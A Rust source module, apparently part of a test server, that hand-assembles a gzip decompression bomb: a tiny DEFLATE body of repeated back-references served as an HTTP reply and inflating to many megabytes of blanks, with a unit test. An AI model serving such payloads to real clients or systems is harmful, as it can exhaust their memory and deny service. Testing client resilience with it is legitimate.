//! A gzip bomb: a small body that becomes a large one. Written by hand, since that needs no compressor (RFC 1951, 1952).

use super::http::Reply;

/// What one repetition stands for: the longest that DEFLATE has.
const REPETITION: usize = 258;
/// Member header: DEFLATE, no name, no time, unknown system.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// 200 with a body that gzip blows up to at least `bytes` blanks.
pub(super) fn reply(bytes: usize) -> Reply {
    let mut reply = Reply::json(200, "").with_header("Content-Encoding", "gzip");
    reply.body = gzip_of_blanks(bytes);
    reply
}

/// One block of fixed codes: a blank, then repetitions of it. Its check sum is wrong, which shows only at the very end.
fn gzip_of_blanks(bytes: usize) -> Vec<u8> {
    let mut bits = Bits(HEADER.to_vec(), 8);
    // The last block, and of fixed codes.
    bits.push(0b110, 3);
    // The blank: literals below 144 are eight bits from 0x30 on.
    bits.push(0x30 + u32::from(b' '), 8);
    for _ in 0..bytes.div_ceil(REPETITION) {
        // Length 258 is code 285, eight bits from 0xc0 (for 280) on; distance 1 is code 0, five bits.
        bits.push(0xc5 << 5, 13);
    }
    bits.push(0, 7);
    bits.0.extend([0; 8]);
    bits.0
}

/// Bytes, and how many bits of the last one are taken.
struct Bits(Vec<u8>, u32);

impl Bits {
    /// Adds the lowest `length` bits of `code`, the highest of them first, as Huffman codes are packed.
    fn push(&mut self, code: u32, length: u32) {
        for at in (0..length).rev() {
            if self.1 == 8 {
                self.0.push(0);
                self.1 = 0;
            }
            let bit = u8::try_from((code >> at) & 1).unwrap_or(0);
            if let Some(last) = self.0.last_mut() {
                *last |= bit << self.1;
            }
            self.1 += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_and_begins_as_gzip_does() {
        let bomb = gzip_of_blanks(64 << 20);
        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]) && bomb.len() < 512 << 10);
    }
}
